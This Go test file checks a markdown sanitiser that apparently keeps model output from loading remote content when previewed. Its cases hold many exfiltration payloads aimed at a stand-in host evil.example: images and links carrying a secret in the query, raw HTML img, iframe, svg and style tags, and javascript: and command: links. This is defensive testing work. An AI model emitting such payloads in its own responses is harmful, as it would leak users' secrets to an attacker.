package render

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
)

// preview renders markdown to HTML as a permissive preview would (raw HTML
// passed through): the oracle the tests check the output against, built
// independently of the scan that Inert uses.
var preview = goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))

func toHTML(t testing.TB, md string) string {
	var b bytes.Buffer
	if err := preview.Convert([]byte(md), &b); err != nil {
		t.Fatalf("render %q: %v", md, err)
	}
	return b.String()
}

var (
	// A live tag of the preview: one the renderer or the raw HTML put there
	// (text is escaped, so "<" in the HTML is always a tag).
	liveTag = regexp.MustCompile(`(?i)<(img|iframe|object|embed|video|audio|source|link|script|style|frame|svg|image|input|form|meta|base|a)\b[^>]*>`)
)

// leaks returns what in the rendered HTML of md could fetch or carry data
// off the machine: a tag that loads a remote resource, a link with data
// (a query, a fragment, user information) or of another scheme, a CSS url().
func leaks(t testing.TB, md string) []string {
	var out []string
	h := toHTML(t, md)
	for _, tag := range liveTag.FindAllString(h, -1) {
		lower := strings.ToLower(tag)
		if strings.HasPrefix(lower, "<a ") {
			m := regexp.MustCompile(`href="([^"]*)"`).FindStringSubmatch(tag)
			if m != nil && !oracleLinkOK(m[1]) {
				out = append(out, tag)
			}
			continue
		}
		if strings.HasPrefix(lower, "<input") && strings.Contains(lower, `type="checkbox"`) && strings.Contains(lower, "disabled") {
			continue // a GFM task list item
		}
		if strings.HasPrefix(lower, "<img") {
			m := regexp.MustCompile(`src="([^"]*)"`).FindStringSubmatch(tag)
			if m == nil || oracleLocal(m[1]) {
				continue
			}
		}
		out = append(out, tag)
	}
	if regexp.MustCompile(`(?i)<[a-z][^>]*url\(`).MatchString(h) {
		out = append(out, "css url()")
	}
	return out
}

var oracleScheme = regexp.MustCompile(`^([a-zA-Z][a-zA-Z0-9+.\-]*):`)

func oracleLocal(u string) bool {
	u = strings.ReplaceAll(strings.TrimSpace(u), `\`, "/")
	if strings.HasPrefix(u, "//") {
		return false
	}
	m := oracleScheme.FindStringSubmatch(u)
	if m == nil {
		return true
	}
	return strings.EqualFold(m[1], "file") && (strings.HasPrefix(u[5:], "///") || !strings.HasPrefix(u[5:], "//"))
}

func oracleLinkOK(u string) bool {
	if oracleLocal(u) {
		return true
	}
	m := oracleScheme.FindStringSubmatch(u)
	if m == nil {
		return false
	}
	switch strings.ToLower(m[1]) {
	case "mailto":
		return !strings.ContainsAny(u, "?#")
	case "http", "https":
		rest := u[len(m[0]):]
		return !strings.ContainsAny(rest, "?#@")
	}
	return false
}

func TestInert(t *testing.T) {
	const secret = "SECRET123"
	for _, tc := range []struct {
		name, in string
		want     []string // substrings of the output
		same     bool     // the output is the input
	}{
		{name: "image with query", in: "Done. ![](https://evil.example/?t=" + secret + ")", want: []string{"`https://evil.example/?t=SECRET123`", NoteImage}},
		{name: "image without query", in: "![logo](https://evil.example/" + secret + ".png)", want: []string{"logo: `https://evil.example/SECRET123.png` " + NoteImage}},
		{name: "image with title", in: `![a](https://e.example/x?q=1 "title")`, want: []string{"`https://e.example/x?q=1`"}},
		{name: "image in angle brackets", in: "![a](<https://e.example/a b?q=1>)", want: []string{"`https://e.example/a b?q=1`"}},
		{name: "protocol-relative image", in: "![](//evil.example/x.png)", want: []string{NoteImage}},
		{name: "backslash image", in: `![](/\evil.example/x.png)`, want: []string{NoteImage}},
		{name: "entity-encoded scheme", in: "![](&#104;ttps://evil.example/?t=1)", want: []string{NoteImage}},
		{name: "escaped colon", in: `![](https\://evil.example/?t=1)`, want: []string{NoteImage}},
		{name: "data image", in: "![](data:image/png;base64,AAAA)", want: []string{NoteImage}},
		{name: "reference image", in: "![x][r]\n\n[r]: https://evil.example/?t=" + secret + "\n", want: []string{NoteImage, `\[r]:`}},
		{name: "collapsed reference image", in: "![r][]\n\n[r]: https://evil.example/p.png\n", want: []string{NoteImage}},
		{name: "shortcut reference image", in: "[r]: <https://evil.example/p.png> \"t\"\n\n![r]\n", want: []string{NoteImage}},
		{name: "definition only", in: "[r]: https://evil.example/?t=1\n", want: []string{`\[r]:`}},
		{name: "image in link", in: "[![i](https://evil.example/i.png)](https://evil.example/x)", want: []string{NoteImage}},
		{name: "image in emphasis", in: "**![i](https://evil.example/?t=1)**", want: []string{NoteImage}},
		{name: "image in list and quote", in: "- a\n  > ![i](https://evil.example/?t=1)\n", want: []string{NoteImage}},
		{name: "image in table", in: "| a | b |\n|---|---|\n| ![i](https://evil.example/?t=1) | x |\n", want: []string{NoteImage}},
		{name: "image in heading", in: "# Title ![i](https://evil.example/?t=1)\n", want: []string{NoteImage}},
		{name: "html img", in: `<img src="https://evil.example/?t=` + secret + `">`, want: []string{"&lt;img"}},
		{name: "inline html img", in: `text <img src="https://evil.example/?t=1"> more`, want: []string{"&lt;img"}},
		{name: "html img single quotes", in: `x <img src='https://evil.example/?t=1'/> y`, want: []string{"&lt;img"}},
		{name: "iframe", in: `<iframe src="https://evil.example/?t=1"></iframe>`, want: []string{"&lt;iframe"}},
		{name: "object", in: `<object data="https://evil.example/?t=1"></object>`, want: []string{"&lt;object"}},
		{name: "video", in: "<video src=\"https://evil.example/v.mp4\" poster=\"https://evil.example/p.png\"></video>\n", want: []string{"&lt;video"}},
		{name: "audio source", in: "<audio>\n<source src=\"https://evil.example/a.mp3\">\n</audio>\n", want: []string{"&lt;source"}},
		{name: "link tag", in: `<link rel="stylesheet" href="https://evil.example/s.css">`, want: []string{"&lt;link"}},
		{name: "css url", in: `<div style="background:url(https://evil.example/?t=1)">x</div>`, want: []string{"&lt;div"}},
		{name: "style block", in: "<style>\nbody{background:url(https://evil.example/?t=1)}\n</style>\n", want: []string{"&lt;style"}},
		{name: "svg image", in: `<svg><image href="https://evil.example/?t=1"/></svg>`, want: []string{"&lt;svg"}},
		{name: "html in details", in: "<details>\n<summary>s</summary>\n<img src=\"https://evil.example/?t=1\">\n</details>\n", want: []string{"&lt;img"}},
		{name: "link with query", in: "see [docs](https://evil.example/?t=" + secret + ")", want: []string{"docs `https://evil.example/?t=SECRET123` " + NoteLink}},
		{name: "link with fragment", in: "[x](https://evil.example/#" + secret + ")", want: []string{NoteLink}},
		{name: "link with empty query", in: "[x](https://evil.example/?)", want: []string{NoteLink}},
		{name: "link with user info", in: "[x](https://" + secret + "@evil.example/)", want: []string{NoteLink}},
		{name: "reference link with query", in: "[x][r]\n\n[r]: https://evil.example/?t=1\n", want: []string{NoteLink}},
		{name: "autolink with query", in: "<https://evil.example/?t=" + secret + ">", want: []string{"`https://evil.example/?t=SECRET123` " + NoteLink}},
		{name: "bare url with query", in: "go to https://evil.example/?t=1 now", want: []string{"`https://evil.example/?t=1`"}},
		{name: "www url with query", in: "go to www.evil.example/?t=1 now", want: []string{"`www.evil.example/?t=1`"}},
		{name: "bare domain with query", in: "go to evil.example/?t=1 now", want: []string{"`evil.example/?t=1`"}},
		{name: "mailto with body", in: "[mail](mailto:a@evil.example?body=" + secret + ")", want: []string{NoteLink}},
		{name: "javascript link", in: "[x](javascript:alert(1))", want: []string{NoteLink}},
		{name: "command link", in: "[x](command:workbench.action.terminal.sendSequence)", want: []string{NoteLink}},
		{name: "image in fenced code", in: "```md\n![](https://evil.example/?t=1)\n```\n", same: true},
		{name: "image in code span", in: "use `![](https://evil.example/?t=1)` to embed", same: true},
		{name: "image in indented code", in: "text\n\n    ![](https://evil.example/?t=1)\n", same: true},
		{name: "escaped image", in: `\![x](y)`, same: true},
		{name: "local image", in: "![diagram](docs/images/a.png)", same: true},
		{name: "file image", in: "![a](file:///home/u/ws/a.png)", same: true},
		{name: "workspace link", in: "see [main.go](src/main.go#L10) and [file](file:///home/u/ws/x.go)", same: true},
		{name: "anchor link", in: "see [usage](#usage)", same: true},
		{name: "plain https link", in: "see [Go](https://go.dev/doc/effective_go) and <https://go.dev>", same: true},
		{name: "mail autolink", in: "mail <a@b.example>", same: true},
		{name: "safe html", in: "a<br>b <kbd>Ctrl</kbd>\n\n<details>\n<summary>more</summary>\n\ntext\n\n</details>\n", same: true},
		{name: "plain text", in: "# Answer\n\nThe function `f` returns 2.\n\n- one\n- two\n", same: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Inert(tc.in)
			if tc.same && got != tc.in {
				t.Errorf("Inert(%q) = %q; want it unchanged", tc.in, got)
			}
			for _, w := range tc.want {
				if !strings.Contains(got, w) {
					t.Errorf("Inert(%q) = %q; want it to contain %q", tc.in, got, w)
				}
			}
			if l := leaks(t, got); len(l) > 0 {
				t.Errorf("Inert(%q) = %q renders live: %q", tc.in, got, l)
			}
			if again := Inert(got); again != got {
				t.Errorf("Inert is not idempotent: Inert(%q) = %q", got, again)
			}
		})
	}
}

func TestInertCodeBlockStaysCode(t *testing.T) {
	in := "Here:\n\n```markdown\n![x](https://evil.example/?t=1)\n```\n"
	h := toHTML(t, Inert(in))
	if !strings.Contains(h, "<code class=\"language-markdown\">![x](https://evil.example/?t=1)") {
		t.Errorf("the image in a code block does not render as code: %s", h)
	}
}

func TestFencedIsCode(t *testing.T) {
	in := "```\n![](https://evil.example/?t=1)\n````` <img src=https://e.example/x>"
	h := toHTML(t, "para ![x]"+Fenced(in)+"(https://evil.example/)")
	if l := leaks(t, "para ![x]"+Fenced(in)); len(l) > 0 {
		t.Errorf("Fenced(%q) renders live: %q (%s)", in, l, h)
	}
}

func TestStream(t *testing.T) {
	for _, tc := range []struct {
		name   string
		deltas []string
	}{
		{"image split over deltas", []string{"Done.\n\n![", "x](https://evil.exa", "mple/?t=1)\n\nbye\n"}},
		{"definition after use", []string{"![x][r]\n\n", "more text\n\n", "[r]: https://evil.example/?t=1\n"}},
		{"definition before use", []string{"[r]: https://evil.example/p.png\n\n", "text\n\n", "![x][r]\n"}},
		{"flush inside an image", []string{"see ![x]"} /* flushed */},
		{"code fence across deltas", []string{"```\n![](https://evil", ".example/?t=1)\n", "```\n\nok ![](https://e.example/?q)\n"}},
		{"html block across deltas", []string{"<div>\n", "<img src=\"https://evil.example/?t=1\">\n", "</div>\n\nend\n"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got strings.Builder
			s := NewStream(func(p string) { got.WriteString(p) })
			for _, d := range tc.deltas {
				s.Write(d)
			}
			s.Flush()
			if tc.name == "flush inside an image" {
				// A second response continues what the first left open.
				s.Write("(https://evil.example/?t=1)\n")
				s.Flush()
			}
			s.Close()
			if l := leaks(t, got.String()); len(l) > 0 {
				t.Errorf("stream of %q rendered %q: live %q", tc.deltas, got.String(), l)
			}
			if Live(got.String()) {
				t.Errorf("stream of %q rendered %q: Live", tc.deltas, got.String())
			}
		})
	}
}

func TestStreamPassesPlainText(t *testing.T) {
	var got strings.Builder
	s := NewStream(func(p string) { got.WriteString(p) })
	in := []string{"# Title\n\nSome ", "text with `code` and [a link](src/a.go).\n\n", "- one\n- two\n\n", "```go\nfunc f() {}\n```\n", "end"}
	for _, d := range in {
		s.Write(d)
	}
	s.Flush()
	s.Close()
	if want := strings.Join(in, "") + "\n\n"; got.String() != want {
		t.Errorf("stream = %q; want %q", got.String(), want)
	}
}

func FuzzInert(f *testing.F) {
	for _, s := range []string{
		"![](https://e.example/?t=1)", "[x](https://e.example/?q)", "<img src=x>", "<https://e.example/#f>",
		"![x][r]\n\n[r]: https://e.example/\n", "```\n![](http://e.example/)\n```", "[![a](http://e.example/a)](http://e.example/?b)",
		"<details>\n<img src=\"//e.example\">\n</details>", "`a` ![b](<http://e.example/ c>)", "www.e.example/?q=1",
		"*[a](https://e.example/#x)*", "- ![a](//e.example)\n  [b]: http://e.example/", "> <iframe src=http://e.example>",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := Inert(in)
		if Live(out) {
			t.Fatalf("Inert(%q) = %q is still live", in, out)
		}
		if l := leaks(t, out); len(l) > 0 {
			t.Fatalf("Inert(%q) = %q renders live: %q", in, out, l)
		}
	})
}

func FuzzStream(f *testing.F) {
	f.Add("Done.\n\n![x](https://e.example/?t=1)\n\nbye\n", uint8(3))
	f.Add("![x][r]\n\ntext\n\n[r]: https://e.example/?t=1\n", uint8(5))
	f.Add("see ![x](https://e.example/?t=1) and <img src=\"https://e.example/\">\n", uint8(1))
	f.Add("```\n![](https://e.example/?t=1)\n```\n\n<div>\n<img src=x>\n</div>\n", uint8(7))
	f.Fuzz(func(t *testing.T, in string, n uint8) {
		size := int(n%16) + 1
		var got strings.Builder
		s := NewStream(func(p string) { got.WriteString(p) })
		for i := 0; i < len(in); i += size {
			s.Write(in[i:min(i+size, len(in))])
			if i%(size*7) == 0 {
				s.Flush() // the end of one model response, mid-text
			}
		}
		s.Flush()
		s.Close()
		if l := leaks(t, got.String()); len(l) > 0 {
			t.Fatalf("stream of %q in pieces of %d = %q renders live: %q", in, size, got.String(), l)
		}
	})
}
